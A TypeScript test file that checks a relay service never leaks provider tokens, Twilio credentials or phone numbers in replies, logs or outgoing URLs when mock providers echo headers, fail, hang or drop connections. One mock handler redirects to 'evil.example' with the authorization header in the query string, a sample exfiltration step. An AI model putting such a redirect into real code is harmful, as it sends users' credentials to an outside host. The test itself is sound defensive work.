import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { readRelayConfig } from '../../../relay/config.ts';
import { PROVIDER_LIMITS } from '../../../relay/providers/limits.ts';
import { createAppProvider, createProviders } from '../../../relay/providers/providers.ts';
import { createLogger } from '../../../shared/log.ts';
import { json, providerServers, TOKENS, TWILIO } from '../../helpers/provider-servers.ts';
import { buildHttp } from '../http/build.ts';
import { PROVIDER_ENV } from './provider-setup.ts';

const servers = await providerServers(test);

const PHONE = '+15550123456';
const BASIC = Buffer.from(`${TWILIO.account}:${TWILIO.authToken}`).toString('base64');
const SECRETS = [...Object.values(TOKENS), 'stolen-token', TWILIO.authToken, BASIC, PHONE];

type Answer = typeof servers.answer;
const ANSWERS: [name: string, answer: Answer][] = [
  ['answer as ever', undefined],
  ['quote the token', ({ headers, body }, response) => json(response, 401, { ...headers, body })],
  [
    'quote the token in good faith',
    ({ headers, body }, response) => json(response, 200, { ...headers, body }),
  ],
  ['fail and quote the token', ({ headers, body }, response) => json(response, 500, { ...headers, body })],
  [
    'redirect to the token',
    ({ headers }, response) =>
      response.writeHead(302, { location: `https://evil.example/?t=${headers.authorization}` }).end(),
  ],
  ['break off', (_request, response) => response.destroy()],
  ['never answer', () => {}],
];

for (const [name, answer] of ANSWERS) {
  test(`no token shows up when providers ${name}`, async () => {
    servers.answer = answer;
    servers.requests.length = 0;
    const lines: string[] = [];
    const log = createLogger('relay', 'debug', { write: (line) => lines.push(line) });
    const context = {
      dispatcher: servers.dispatcher,
      logger: log,
      limits: { ...PROVIDER_LIMITS, timeoutMs: 50 },
    };
    const config = readRelayConfig({
      ...PROVIDER_ENV,
      AUTH_OPTION: 'SalesforceLWC,GenesysCloud,Twilio',
      AUTH_PROVIDER_PARAMETER: 'required',
      APP_AUTH_OPTION: 'Twilio',
    });
    const { app } = await buildHttp({
      log,
      providers: createProviders(config, context),
      appProvider: createAppProvider(config, context),
    });
    for (const token of [...Object.values(TOKENS), 'stolen-token']) {
      for (const provider of ['Salesforce', 'SalesforceLWC', 'GenesysCloud', 'Twilio']) {
        const reply = await app.inject({
          method: 'POST',
          url: `/register?provider=${provider}`,
          headers: { authorization: `Bearer ${token}` },
          payload: { gcp_agent_assist_user: 'maria' },
        });
        for (const secret of SECRETS) assert.not.ok(reply.body.includes(secret), reply.body);
      }
    }
    const payload = { accountSid: TWILIO.account, authToken: TWILIO.authToken, phone: PHONE };
    await app.inject({ method: 'POST', url: '/register-app', payload });

    assert.ok(lines.length > 20);
    assert.ok(servers.requests.length > 10);
    for (const secret of SECRETS) {
      assert.not.ok(lines.join().includes(secret), lines.join());
      for (const { url } of servers.requests) assert.not.ok(url.includes(secret), url);
    }
  });
}

test.run();
